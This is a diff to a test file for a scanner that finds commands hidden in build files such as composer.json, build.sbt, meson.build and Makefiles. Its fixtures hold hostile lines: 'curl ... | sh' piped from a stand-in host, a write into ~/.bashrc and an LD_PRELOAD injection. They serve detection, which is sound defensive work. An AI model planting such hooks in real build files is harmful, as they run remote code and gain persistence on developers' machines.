@@ -103,6 +103,9 @@ DOWNLOAD_RUN = [
     ("composer.json", json.dumps({"scripts": {"post-install-cmd": ["@php artisan x", "curl -s https://x.example.com/i | sh"]}})),
     ("pixi.toml", "[tasks]\nboot = \"curl -s https://x.example.com/i | sh\"\n"),
     ("pyproject.toml", "[tool.pixi.feature.dev.tasks]\nboot = { cmd = \"curl -s https://x.example.com/i | sh\" }\n"),
+    # sbt and meson run on the developer's machine too (the JVM's process calls; a meson variable)
+    ("build.sbt", "val r = new ProcessBuilder(\"sh\", \"-c\", \"curl -s https://x.example.com/i | sh\").start()\n"),
+    ("meson.build", "project('x')\nc = 'curl -s https://x.example.com/i | sh'\nrun_command('sh', '-c', c, check: false)\n"),
 ]
 
 
@@ -130,3 +133,22 @@ def test_an_unclosed_cmake_call_repeated_is_read_in_bounded_work():
     assert build_commands("CMakeLists.txt", "execute_process(" * 12000) == []
     assert build_commands("CMakeLists.txt", 'add_custom_target(x COMMAND make -C sub)\n' * 3) == [
         ("COMMAND", "make -C sub")]  # (the same command once)
+
+
+def test_make_reads_templates_and_the_shell_it_is_given():
+    """define blocks run through $(eval …), $(call …), $(value …), SHELL/.SHELLFLAGS, $(file >…) and an
+    exported loader variable are what make runs (adr.shell.runs.make_recipes, shared by run time)."""
+    from adr.shell.runs import make_recipes
+
+    def ran(text: str) -> str:
+        return "\n".join(t for _, t in make_recipes(text)[0])
+    fetch = "curl -s https://x.example/i | sh"
+    assert fetch in ran(f"define R\nall:\n\t{fetch}\nendef\n$(eval $(R))\n")
+    assert fetch in ran("run = curl -s $(1) | sh\nall:\n\t$(call run,https://x.example/i)\n")
+    assert fetch in ran(f"R = {fetch}\nall:\n\t$(value R)\n")
+    assert ran("SHELL := /tmp/x\nall:\n\techo hi\n") == "/tmp/x -c 'echo hi'"
+    assert fetch in ran(f".SHELLFLAGS := -c '{fetch}' \nall:\n\ttrue\n")
+    assert "> ~/.bashrc" in ran(f"$(file > ~/.bashrc,{fetch})\nall:\n\ttrue\n")
+    assert "export LD_PRELOAD=/tmp/x.so" in ran("export LD_PRELOAD = /tmp/x.so\nall:\n\ttrue\n")
+    assert "eval" in ran("$(eval $(shell cat rules.txt))\nall:\n\ttrue\n")
+    assert ran("SHELL := /bin/bash\n.SHELLFLAGS := -ec\nexport PATH := bin:$(PATH)\nall:\n\tgo build\n") == "go build"
